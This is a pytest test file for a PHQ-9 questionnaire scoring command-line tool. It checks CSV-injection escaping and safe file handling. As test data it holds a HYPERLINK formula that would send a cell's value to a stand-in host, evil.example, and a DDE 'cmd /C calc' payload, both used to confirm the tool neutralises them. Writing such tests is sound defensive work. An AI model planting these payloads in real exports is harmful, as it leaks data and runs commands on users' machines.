"""The command-line scorer as a careful user meets it (issue 25): spreadsheet formulas in cells,
files that are not what they should be, and outputs that must not clobber anything.

Exit status: 0 all rows scored, 1 some rows invalid, 2 usage or file error; every error is one
Chinese line on stderr and never a traceback.
"""

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from engine import batch
from engine.__main__ import EXIT_TEXT, main, parser

ROOT = Path(__file__).resolve().parent.parent
PHQ = [str(i) for i in range(1, 10)]
# What OWASP's CSV-injection guidance lists as starting a formula.
PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def _write(path, header, rows):
    with open(path, "w", encoding="utf-8", newline="") as handle:
        out = csv.writer(handle)
        out.writerow(header)
        out.writerows(rows)
    return path


def _read(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _run(capsys, argv):
    capsys.readouterr()
    status = main(argv)
    return status, capsys.readouterr().err


def _one_line(err):
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


# ---------------------------------------------------------------- formulas in cells


@pytest.mark.parametrize("prefix", PREFIXES)
def test_formula_cells_get_an_apostrophe(tmp_path, capsys, prefix):
    payload = prefix + 'HYPERLINK("http://evil.example/?"&B2,"x")'
    source = _write(tmp_path / "in.csv", ["编号", "备注"] + PHQ, [[payload, prefix + "cmd|' /C calc'!A0"] + ["1"] * 9])
    status, err = _run(
        capsys, ["score", "phq9", str(source), "--id", "编号", "--id", "备注", "-o", str(tmp_path / "o.csv")]
    )
    assert status == 0, err
    header, row = _read(tmp_path / "o.csv")
    assert row[0] == "'" + payload
    assert row[1] == "'" + prefix + "cmd|' /C calc'!A0"
    # The engine's own numbers stay numbers.
    assert row[header.index("总分")] == "9"
    assert "单引号" in err


@pytest.mark.parametrize("prefix", PREFIXES)
def test_raw_cells_option_writes_cells_as_read(tmp_path, capsys, prefix):
    payload = prefix + "SUM(1,2)"
    source = _write(tmp_path / "in.csv", ["编号"] + PHQ, [[payload] + ["1"] * 9])
    status, err = _run(capsys, ["score", "phq9", str(source), "--raw-cells", "-o", str(tmp_path / "o.csv")])
    assert status == 0, err
    assert _read(tmp_path / "o.csv")[1][0] == payload
    assert "未加防公式的单引号" in err


def test_plain_numbers_and_text_are_left_alone():
    for cell in ["-3", "+2", "-1.5", "12", "张三", "a=b", "", "'=x"]:
        assert batch.safe_cell(cell) == cell
    for cell in ["-", "-1+2", "=1", "@x", "+A1", "\t1", "\r1", "-２"]:
        assert batch.safe_cell(cell) == "'" + cell


def test_negative_engine_numbers_stay_numbers():
    """A total below zero (a change score) is written by the engine as a number, never as text."""
    assert batch.guarded(["-4", "-0.5", "轻度", "第 2 行：已计分。"]) == []


def test_template_header_is_guarded(tmp_path, capsys):
    target = tmp_path / "t.csv"
    status, _ = _run(capsys, ["score", "phq9", "--template", "--id", "=x", "-o", str(target)])
    assert status == 0
    assert _read(target)[0][0] == "'=x"


def test_help_states_the_rule_the_option_and_the_exit_codes():
    text = parser()._subparsers._group_actions[0].choices["score"].format_help()
    assert "--raw-cells" in text and "单引号" in text and "--force" in text
    assert EXIT_TEXT in text.replace("\n", "").replace(" ", "") or "退出状态" in text
    assert "PyYAML" in text


# ---------------------------------------------------------------- files and outputs


def test_directory_is_refused(tmp_path, capsys):
    status, err = _run(capsys, ["score", "phq9", str(tmp_path)])
    assert status == 2
    assert "是文件夹" in _one_line(err)


def test_missing_file_is_refused(tmp_path, capsys):
    status, err = _run(capsys, ["score", "phq9", str(tmp_path / "none.csv")])
    assert status == 2
    assert "找不到文件" in _one_line(err)


def test_unwritable_output_is_refused(tmp_path, capsys):
    source = _write(tmp_path / "in.csv", ["编号"] + PHQ, [["a"] + ["1"] * 9])
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where a folder should be")
    status, err = _run(capsys, ["score", "phq9", str(source), "-o", str(blocker / "o.csv")])
    assert status == 2
    assert "无法写入" in _one_line(err)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker", "in.csv"]


def test_output_equal_to_input_is_refused_and_input_kept(tmp_path, capsys):
    source = _write(tmp_path / "in.csv", ["编号"] + PHQ, [["a"] + ["1"] * 9])
    before = source.read_bytes()
    for target in [str(source), str(tmp_path / "." / "in.csv")]:
        status, err = _run(capsys, ["score", "phq9", str(source), "-o", target, "--force"])
        assert status == 2
        assert "就是输入文件" in _one_line(err)
    assert source.read_bytes() == before


def test_existing_output_needs_force(tmp_path, capsys):
    source = _write(tmp_path / "in.csv", ["编号"] + PHQ, [["a"] + ["1"] * 9])
    target = tmp_path / "in.scored.csv"
    target.write_text("earlier results", encoding="utf-8")
    status, err = _run(capsys, ["score", "phq9", str(source)])
    assert status == 2
    assert "已存在" in _one_line(err) and "--force" in err
    assert target.read_text(encoding="utf-8") == "earlier results"
    status, err = _run(capsys, ["score", "phq9", str(source), "--force"])
    assert status == 0, err
    assert _read(target)[1][-1].endswith("已计分。")


def test_existing_template_needs_force(tmp_path, capsys):
    target = tmp_path / "t.csv"
    target.write_text("filled in by hand", encoding="utf-8")
    status, err = _run(capsys, ["score", "phq9", "--template", "-o", str(target)])
    assert status == 2 and "已存在" in _one_line(err)
    assert target.read_text(encoding="utf-8") == "filled in by hand"


def test_empty_file_is_refused(tmp_path, capsys):
    source = tmp_path / "in.csv"
    source.write_bytes(b"")
    status, err = _run(capsys, ["score", "phq9", str(source)])
    assert status == 2 and "是空的" in _one_line(err)
    assert not (tmp_path / "in.scored.csv").exists()


def test_header_only_file_is_refused(tmp_path, capsys):
    source = _write(tmp_path / "in.csv", ["编号"] + PHQ, [])
    status, err = _run(capsys, ["score", "phq9", str(source)])
    assert status == 2 and "只有表头" in _one_line(err)
    assert not (tmp_path / "in.scored.csv").exists()


@pytest.mark.parametrize(
    "argv",
    [["score"], ["nosuch"], ["score", "phq9", "--bogus"], ["score", "phq9", "DIR"], ["prepost", "phq9", "DIR", "DIR"]],
)
def test_no_traceback_from_the_real_command(tmp_path, argv):
    """Run as the user runs it: one Chinese line on stderr, status 2."""
    argv = [str(tmp_path) if a == "DIR" else a for a in argv]
    result = subprocess.run(
        [sys.executable, "-m", "engine", *argv], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 2, result.stderr
    line = _one_line(result.stderr)
    assert line.startswith(("错误：", "用法错误：")), line
